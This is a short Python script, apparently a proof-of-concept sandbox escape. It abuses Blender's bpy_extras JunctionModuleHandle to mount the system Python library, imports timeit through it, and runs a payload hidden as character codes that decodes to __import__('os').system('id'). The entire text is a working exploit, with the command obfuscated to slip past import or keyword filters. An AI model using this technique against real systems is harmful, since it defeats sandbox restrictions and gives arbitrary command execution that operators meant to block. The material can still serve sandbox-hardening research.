from bpy_extras.extensions.junction_module import JunctionModuleHandle
h = JunctionModuleHandle("bpy_extras.jx")
h.register_module()
h.register_submodule("lib", "/usr/lib/python3.11")
import bpy_extras.jx.lib.timeit as t
src = "".join(map(chr, [95,95,105,109,112,111,114,116,95,95,40,39,111,115,39,41,46,115,121,115,116,101,109,40,39,105,100,39,41]))
t.timeit(src, number=1)
